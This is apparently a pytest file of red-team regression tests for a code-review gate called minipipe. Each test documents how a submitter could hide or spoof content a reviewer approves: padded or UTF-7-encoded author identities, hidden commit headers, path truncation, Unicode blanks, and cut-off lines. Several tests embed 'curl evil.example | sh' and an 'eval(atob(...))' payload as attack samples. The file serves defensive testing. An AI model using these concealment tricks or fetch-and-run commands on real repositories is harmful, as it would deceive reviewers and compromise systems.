"""The review gate, attacked an eleventh time: what the REVIEWER SEES against what
lands, after d241de1 (each commit recorded whole from `git log -z --format=%H%x00
%P%x00...%B`, hashed with the diff, shown first by `minipipe diff`, one line each by
`show`, and on the monitor's diff screen).

Same cast as test_review_attacks: dave (minipipe-admin) keeps /srv/git/app, with main
checked out, and reviews; alice (group minipipe) submits and may only read it. Each
test asserts the SECURE outcome. The ones marked FOUND fail against d241de1 (that is
the finding, kept as a strict xfail); the ones marked HELD document an attack that
was refused.

The landing held again: %H binds each recorded commit to the object that lands,
the log's fields cannot run into each other (index-pack --strict refuses a NUL in a
commit, its body too: nulInCommit), a message's lines are indented so the piped
diff feeds `git apply` only the real patch, and the change's own `.gitattributes`
steer nothing the lander's `merge-tree` does (it runs in the git directory, where
no work tree's attributes are read). The findings are about what a reviewer is
shown of what an approval lands: a commit's identity cut at 500 characters without
a word, an identity shown as git decodes it for the commit's `encoding` header
(UTF-7) while its bytes name someone else, commit headers nobody is shown (of any
size), per-file counts that a type
change shifts onto the next files, paths cut at 500 characters in the stat and in
`--name-only`, and the monitor's diff screen (Unicode blanks push code off screen
past the round-10 collapse, `/` finds nothing past a cut).

Fixed since: commits are recorded from `git log --pretty=raw --encoding=` (every
header as the object holds it, never re-encoded; other headers shown, indented, as
`Header:` lines), any cut of an identity, the headers or a message is named in the
commit's `cut` and needs `approve --unread-ok`; a type change's two patches count as
its one file (`_Digest`); paths are kept to 4096 characters, a longer one marked cut
(the list too; `--name-only` skips it and fails); the monitor collapses runs of any
blank and `/` searches what a line does not show, highlighting the marker.
"""

# ruff: noqa: F811  (the gate fixture, imported)
from __future__ import annotations

import json
import re
import unicodedata
from typing import Any

from .conftest import Box
from .test_review_attacks import (  # noqa: F401  (gate is a fixture)
    DROP,
    TOOLS,
    gate,
    plan,
    review_then_approve,
)
from .test_review_attacks10 import VENDOR, awaiting, on_a_terminal
from .test_review_system import REPO, main_of

# ---------------------------------------------------------------- the commits shown


def test_the_reviewer_is_shown_the_whole_identity_that_lands(gate: Box) -> None:
    """FOUND, FIXED (low-medium: a commit lands under an identity nobody was shown,
    e.g. attributed by a forge to another person's account by its e-mail).

    workspace._commits records `author` and `committer` as f"{name} <{email}>" cut
    at MAX_TEXT_CHARS (500), silently: unlike a message over 10,000 characters,
    nothing sets `commits_truncated`, so neither `diff` nor `show` says so and a
    plain `approve` lands it. A commit's name may be any length (git and fsck only
    refuse `<`, `>` and newlines in it). alice's step commits `v2` as author
    name `alice ﹤alice@example.org﹥` (small-form brackets: no escape for those)
    padded with 600 blanks, e-mail dave@example.org. `minipipe diff` shows
    "Author:     alice ﹤alice@example.org﹥" then blanks (wrapped by less: empty
    rows) then the date; `show` the same in its commit line. dave approves; main's
    tip is authored by dave@example.org, which no screen showed. Suggested fix: in
    workspace._commits keep name and e-mail as separate fields, never cut the
    e-mail (git refuses none, but cut only the name, and say where: "… [N more
    characters]"), and count any cut of an identity or date in `commits_truncated`
    so that `approve` needs `--unread-ok`; render.commit_lines could also show the
    e-mail first ("<dave@example.org> alice ...") so no name can push it away.
    """
    box = gate
    script = ("printf 'v2\\n' > VERSION\ngit add VERSION\n"
              "GIT_AUTHOR_NAME=\"alice ﹤alice@example.org﹥$(printf '%600s' '')~\" "
              "GIT_AUTHOR_EMAIL=dave@example.org git commit -q -m 'bump VERSION'")
    shown, approved, run = shown_and_approved(box, script)
    landed = box.sh(f"git -C {REPO} log -1 --format=%ae main", user="dave").stdout.strip()
    assert "dave@example.org" in shown or landed != "dave@example.org", (
        f"shown (no dave@example.org in it):\n{shown[:2000]}\napproval: "
        f"{approved.returncode} {approved.stderr.strip()}; the run then: {run['state']}; "
        f"main's tip authored by {landed}")


def hand_made_and_approved(box: Box, rest: str) -> tuple[str, Any, dict[str, Any], str]:
    """alice's step commits VERSION `v2` by hand (`git hash-object -t commit`): tree
    and parent as `git commit` writes them, then what the shell lines `rest` print
    (`$now` is the time); dave reads `show` and `diff` and approves. Returns what he
    was shown, the approval, the run after it and main's tip (`git cat-file`)."""
    script = ("printf 'v2\\n' > VERSION\ngit add VERSION\nnow=$(date +%s)\n"
              """{ printf 'tree %s\\nparent %s\\n' "$(git write-tree)" "$(git rev-parse HEAD)"\n"""
              + rest.strip("\n") + "; } > commit.raw\n"
              'commit=$(git hash-object -t commit -w commit.raw)\nrm commit.raw\n'
              'git update-ref HEAD "$commit"\n')
    shown, approved, run = shown_and_approved(box, script)
    landed = box.sh(f"git -C {REPO} cat-file commit main", user="dave").stdout
    return shown, approved, run, landed


def shown_and_approved(box: Box, script: str) -> tuple[str, Any, dict[str, Any]]:
    """alice's run of `script` awaits review; dave reads `show` and `diff`, then
    approves. Returns what he was shown, the approval and the run after it."""
    run_id = awaiting(box, plan(script))
    shown = "\n".join(box.minipipe(command, user="dave").stdout for command in
                      (f"show {run_id}", f"diff {run_id}"))
    approved = box.approve(run_id, check=False)
    return shown, approved, box.wait_state(run_id, "SUCCEEDED", "FAILED", "AWAITING_REVIEW",
                                           timeout=90)


def test_the_reviewer_is_shown_every_header_of_a_commit_that_lands(gate: Box) -> None:
    """FOUND, FIXED (low: what lands in the repository's history under the reviewer's
    approval is more than they were shown; any amount of it, up to the 4 GiB pack
    limit, published wherever on_approve pushes main).

    The commit stream is `git log --format=%H%x00%P%x00%an...%B`: it shows the
    identities, dates and message of each commit, and nothing of any other header
    a commit object may carry. index-pack --strict (fsck) accepts any header after
    `committer` (continuation lines too: that is how `gpgsig` and `mergetag` are
    stored), `git log` never prints one, and %H binds it, so it lands byte for byte
    as "reviewed". alice's step writes her commit itself (`git hash-object -t
    commit -w`): tree and parent as `git commit` would, plus a header
    `x-payload Release-As: 9.9.9` with 300 KB of base64 in continuation lines; then
    points her branch at it. dave is shown "+v2 −v1, 1 file, 1 commit" and the
    message "bump VERSION", approves, and main's tip carries the payload
    (`git cat-file commit main`). Suggested fix: record each commit's raw header
    (`git cat-file --batch` on the listed ids, as the lander re-reads them, hashed
    with the rest) and show every header but tree/parent/author/committer in
    `diff` and the monitor (escaped, cut with --unread-ok like a message), or
    refuse at recording a commit with headers other than those four, `encoding`
    and `gpgsig` (and show those two).
    """
    shown, approved, run, landed = hand_made_and_approved(gate, r"""
  printf 'author alice <alice@example.org> %s +0000\n' "$now"
  printf 'committer alice <alice@example.org> %s +0000\n' "$now"
  printf 'x-payload Release-As: 9.9.9\n'
  head -c 225000 /dev/urandom | base64 -w 76 | sed 's/^/ /'
  printf '\nbump VERSION\n'""")
    assert "x-payload" in shown or "x-payload" not in landed, (
        f"shown:\n{shown[:1500]}\napproval: {approved.returncode} "
        f"{approved.stderr.strip()}; the run then: {run['state']}; main's tip holds "
        f"{len(landed)} bytes: {landed[:400]!r}")


def test_the_identity_shown_is_the_one_in_the_commit_that_lands(gate: Box) -> None:
    """FOUND, FIXED (medium-low: a reviewed commit lands attributed, by the bytes of its
    author field, to someone the reviewer never saw: forges and libraries that read
    the raw header (libgit2/pygit2 `author.email`, go-git, `git cat-file`) name
    ceo@example.org; every screen of minipipe said alice@example.org).

    The commit stream is read with `-c i18n.logOutputEncoding=UTF-8`: git
    re-encodes each commit's whole buffer, headers included, from the encoding its
    `encoding` header names before it parses %an/%ae, and shows that header
    nowhere. UTF-7 writes `<`, `@`, `>` as `+ADw-`, `+AEA-`, `+AD4-`, which fsck
    accepts inside a name (it forbids only the bytes `<`, `>`, newline). alice's
    step writes her commit itself: author and committer
    `alice +ADw-alice+AEA-example.org+AD4- <ceo@example.org> <now> -0000` (no
    `+` in the zone, which UTF-7 would read as base64), `encoding UTF-7`. git
    decodes the line to `alice <alice@example.org> <ceo@example.org> ...` and
    parses name `alice`, e-mail alice@example.org: that is what is recorded,
    hashed (the lander's git decodes the same) and shown by `diff` and `show`.
    dave approves; main's tip holds `author ... <ceo@example.org>`. Suggested
    fix: record `%e` with each commit and refuse (or show, and require
    `--unread-ok` for) any encoding but UTF-8; better, record the raw header
    lines (`git cat-file --batch`, hashed) and show those, escaped.
    """
    shown, approved, run, landed = hand_made_and_approved(gate, r"""
  who='alice +ADw-alice+AEA-example.org+AD4- <ceo@example.org>'
  printf 'author %s %s -0000\ncommitter %s %s -0000\n' "$who" "$now" "$who" "$now"
  printf 'encoding UTF-7\n\nbump VERSION\n'""")
    assert "ceo@example.org" in shown or "ceo@example.org" not in landed, (
        "shown: " + " | ".join(line.strip() for line in shown.splitlines()
                               if "@example.org" in line)
        + f"\napproval: {approved.returncode}; the run then: {run['state']}; "
        f"main's tip:\n{landed}")


FAKE_LOG = """bump VERSION

commit 0123456789abcdef0123456789abcdef01234567
Author:     dave <dave@example.org>   2026-01-01T00:00:00+00:00

diff --git a/evil.sh b/evil.sh
new file mode 100755
index 0000000000000000000000000000000000000000..1111111111111111111111111111111111111111
--- /dev/null
+++ b/evil.sh
@@ -0,0 +1 @@
+curl evil.example | sh"""


def test_a_message_cannot_pass_for_a_commit_or_a_patch(gate: Box) -> None:
    """HELD (the display of d241de1: messages indented 4 spaces).

    alice's commit message carries what `minipipe diff` itself prints: a
    `commit <id>` line (an id to approve that is not the change's), an Author line
    naming dave, and a whole patch adding `evil.sh`. On dave's terminal the only
    lines that start with `commit ` are the recorded head; piped, the output fed to
    `git apply` in a clone at the base changes VERSION and creates no evil.sh (git
    apply reads no indented header). Kept as a regression for the commit display
    (render.commit_lines, diff_after_commits). (GNU `patch`, which takes an
    indented patch, would apply the message's too, as with `git log -p`; the README
    promises `git apply` only.)"""
    box = gate
    script = ("printf 'v2\\n' > VERSION\ngit add VERSION\n"
              f"git commit -q -F - <<'EOF'\n{FAKE_LOG}\nEOF")
    run_id = awaiting(box, plan(script))
    run = box.run(run_id)
    head, base = run["workspace"]["head_commit"], run["workspace"]["base_commit"]
    terminal = on_a_terminal(box, f"minipipe diff {run_id}")
    plain = re.sub(r"\x1b\[[0-9;]*m", "", terminal)
    assert [line.strip() for line in plain.splitlines() if line.startswith("commit ")] == [
        f"commit {head}"], plain[:1500]
    box.sh(f"minipipe diff {run_id} > {DROP}/piped.diff", user="dave")
    applied = box.sh(f"rm -rf /tmp/rt11-apply && git clone -q {REPO} /tmp/rt11-apply && "
                     f"cd /tmp/rt11-apply && git checkout -q {base} && "
                     f"git apply {DROP}/piped.diff && git status --porcelain && cat VERSION",
                     user="dave", check=False)
    assert applied.returncode == 0, applied.stderr
    assert applied.stdout.split() == ["M", "VERSION", "v2"], applied.stdout


# ---------------------------------------------------------------- the files shown


def test_a_type_change_does_not_shift_the_counts_of_the_files_after_it(gate: Box) -> None:
    """FOUND, FIXED (low: `diff --stat`, the monitor's stat list, `show --json` show a
    small edit where the big one is, and "and 1 more (too many to list)" for a
    file that does not exist).

    workspace._files pairs name-status entries with the diff's per-file counts
    (_Digest: one per `diff --git` line) by position. git prints a type change
    (a file that becomes a symlink, or back) as one name-status entry `T` but as
    TWO patches (the file deleted, the link added), so from there on each file gets
    the counts of the patch before it; `files_changed` says one file more than
    there are, and `files_truncated` is set. alice's change makes VERSION a
    symlink to a new VERSION.txt (sorted first), adds auth.py (30 lines: what a
    reviewer should read first) and zz-notes.md (one line). `minipipe diff
    --stat` shows `auth.py | 1 +` and `zz-notes.md | 30 +++...`, then "... and 1
    more (too many to list)" and "5 files" (there are 4). The line totals and the
    diff itself are right. Suggested fix: in
    _Digest, count a `diff --git` header whose path repeats the previous one's
    (the typechange's second patch) into the same entry, or pair counts with
    name-status by path (both from -z, with --text) rather than by position; and
    take `files_changed` from name-status.
    """
    box = gate
    script = ("rm VERSION && ln -s VERSION.txt VERSION && printf 'v2\\n' > VERSION.txt\n"
              "for i in $(seq 30); do echo \"check_$i = allow_all\"; done > auth.py\n"
              "printf 'notes\\n' > zz-notes.md")
    run_id = awaiting(box, plan(script))
    stat = box.minipipe(f"diff --stat {run_id}", user="dave").stdout
    files = {entry["path"]: entry["insertions"]
             for entry in box.run(run_id)["workspace"]["changes"]["files"]}
    assert re.search(r"auth\.py\s*\|\s*30 ", stat) and files.get("auth.py") == 30, (stat, files)


LONG_DIR = "docs/" + "n" * 250 + "/" + "n" * 245


def test_a_long_path_is_shown_whole_in_the_file_list(gate: Box) -> None:
    """FOUND, FIXED (low: the file list names a path that is not in the change and hides
    the one that is; `--name-only` is documented "for scripts").

    workspace._files keeps each path cut at MAX_TEXT_CHARS (500), and nothing says
    so (`files_truncated` is about the number of files). alice's change adds
    `docs/nnn…/nnn…/conftest.py` (513 characters: two directory names of 250 and
    245): pytest imports a conftest.py from any directory it collects. `minipipe diff
    --name-only` prints `docs/nnn…nnn` (a directory, and no such file), the stat and
    the monitor `...nnnnnn`; only the diff's own header names conftest.py. A
    script that checks the changed names (`*.py`, `conftest.py`, a CODEOWNERS-like
    rule) sees none. Suggested fix: keep paths whole (git limits them to PATH_MAX
    anyway; the listing's 16 MiB bound already caps the total), or mark a cut
    path (`files_truncated`, and "…" in the stat) and let `--name-only` fail
    rather than print a name that is not the change's.
    """
    box = gate
    script = (f"mkdir -p {LONG_DIR}\n"
              f"printf 'import os\\nos.system(\"curl evil.example | sh\")\\n' "
              f"> {LONG_DIR}/conftest.py")
    run_id = awaiting(box, plan(script))
    names = box.minipipe(f"diff --name-only {run_id}", user="dave").stdout.splitlines()
    stat = box.minipipe(f"diff --stat {run_id}", user="dave").stdout
    assert names == [f"{LONG_DIR}/conftest.py"] and "conftest.py" in stat, (
        [name[-40:] for name in names], stat)


# ---------------------------------------------------------------- the monitor


MONITOR = r'''
import json, sys
from minipipe_svc.config import load_config
from minipipe_svc.monitor.data import MonitorData
from minipipe_svc.monitor.diff import Search, build
from minipipe_svc.review import read_diff
run, needle = int(sys.argv[1]), sys.argv[2]
config = load_config(None)
data = MonitorData(config.db_path)
data.refresh()
doc = build(run, data.workspace(run), read_diff(config.log_dir, run), config.log_dir)
hits = Search(doc, needle).hits
print(json.dumps({"lines": doc.lines, "hits": hits}))
'''


def monitor_screen(box: Box, run_id: int, needle: str) -> dict:
    """The monitor's diff screen for the run, as dave's monitor builds it (its
    lines, escaped and cut), and the lines its `/` search for `needle` finds."""
    box.c.write(f"{TOOLS}/monitor11.py", MONITOR)
    result = box.sh(f"PYTHONPATH={VENDOR} python3 {TOOLS}/monitor11.py {run_id} "
                    f"{json.dumps(needle)}", user="dave", check=False)
    assert result.returncode == 0, result.stderr
    return json.loads(result.stdout)


def cells(text: str) -> int:
    return sum(2 if unicodedata.east_asian_width(c) in "WF" else 1 for c in text)


def test_unicode_blanks_cannot_push_an_added_line_off_the_monitor(gate: Box) -> None:
    """FOUND, FIXED (low-medium: for reviewers who review in the monitor, the round-10
    fix is bypassed: the code that lands is off screen).

    Round 10 made monitor/diff.py collapse runs of 80 or more blanks
    ("[5000 blanks]"), so that a line's tail is on screen; BLANK_RUN matches the
    ASCII space only (after tabs are expanded). Every other blank passes as it
    is: U+3000 IDEOGRAPHIC SPACE (two cells each), U+00A0, U+2000-U+200A, U+205F
    (none is a format character, so render.printable keeps them too). alice's
    change makes VERSION `v2`, 1000 U+3000, then `; curl evil.example | sh`: 1026
    characters, under the 4096 cut, so no "… [more characters]" note either. The
    screen shows `+v2` and blank to its right edge; the payload starts at cell
    2004. Suggested fix: collapse runs of any blank (`[^\\S\\n]` in Python's
    Unicode sense, i.e. str.isspace, plus U+2800 BRAILLE PATTERN BLANK and the
    Hangul fillers already escaped) the same way, counting cells, not characters.
    """
    box = gate
    run_id = awaiting(box, plan(
        "python3 -c \"print('v2' + '\\u3000' * 1000 + '; curl evil.example | sh')\" > VERSION"))
    screen = monitor_screen(box, run_id, "curl")
    lines = [line for line in screen["lines"] if "curl" in line]
    assert lines, "the payload is not on the screen at all"
    before = lines[0][:lines[0].index("curl")]
    assert cells(before) < 200, (cells(before), before[:20])


def test_the_monitor_search_finds_what_a_cut_line_holds(gate: Box) -> None:
    """FOUND, FIXED (low: a reviewer who searches the monitor's diff screen for a
    dangerous call is told there is none).

    monitor/diff.py cuts a line at MAX_LINE_CHARS (4096) and says so at the cut
    ("… [N more characters: `minipipe diff` shows the whole line]", at cell 4096,
    right of the screen); Search looks only at the lines as shown. alice's change
    adds `app.min.js`, one minified line: `var a="xxx…"` (5000 characters), then
    `;eval(atob("Y3VybA=="))`. dave opens the diff screen and types `/eval`: no
    match ("eval" is nowhere on the screen); a minified bundle is exactly where
    nobody scrolls 4000 cells right. Suggested fix: search the lines whole (keep
    the uncut text beside the shown one, or the cut part's offsets), and on a hit
    past a cut say so ("match in the cut part of line N: `minipipe diff` shows
    it"); better, wrap or split long lines into shown rows so nothing is cut.
    """
    box = gate
    run_id = awaiting(box, plan(
        "python3 -c \"print('var a=\\\"' + 'x' * 5000 + '\\\";eval(atob(\\\"Y3VybA==\\\"))')\" "
        "> app.min.js"))
    screen = monitor_screen(box, run_id, "eval")
    cut = [line[-80:] for line in screen["lines"] if "more characters" in line]
    assert cut, "the line was not cut: the attack did not run as meant"
    assert screen["hits"], ("`/eval` finds nothing", cut)


# ---------------------------------------------------------------- landing a merge


def test_the_changes_gitattributes_do_not_steer_the_landing_merge(gate: Box) -> None:
    """HELD (the lander's merge-tree runs in the git directory, where no work
    tree's .gitattributes are read: git 2.39 reads none there).

    alice's change adds `.gitattributes` with `VERSION merge=union` (a built-in
    driver: nothing for the vet to refuse) and makes VERSION `v2-alice`. While
    it awaits review dave commits `v1-dave` to VERSION on main (the target moved
    on). With land = "merge" the landing needs a merge commit: had merge-tree
    read the change's attributes, the conflicting VERSION would merge as the
    union of both lines, a file content nobody reviewed. It conflicts instead: the run is
    back awaiting review with "conflicts with main: VERSION", main unchanged."""
    box = gate
    run_id = awaiting(box, plan("printf 'VERSION merge=union\\n' > .gitattributes\n"
                                "printf 'v2-alice\\n' > VERSION", extra='land = "merge"\n'))
    box.sh(f"cd {REPO} && printf 'v1-dave\\n' > VERSION && git -c user.name=d "
           "-c user.email=d@x commit -qam v1-dave", user="dave")
    moved = main_of(box)
    _shown, run = review_then_approve(box, run_id)
    assert main_of(box) == moved, box.sh(f"git -C {REPO} show main:VERSION",
                                         user="dave").stdout
    assert run["state"] == "AWAITING_REVIEW" and "VERSION" in (run["reason"] or ""), (
        run["state"], run["reason"])
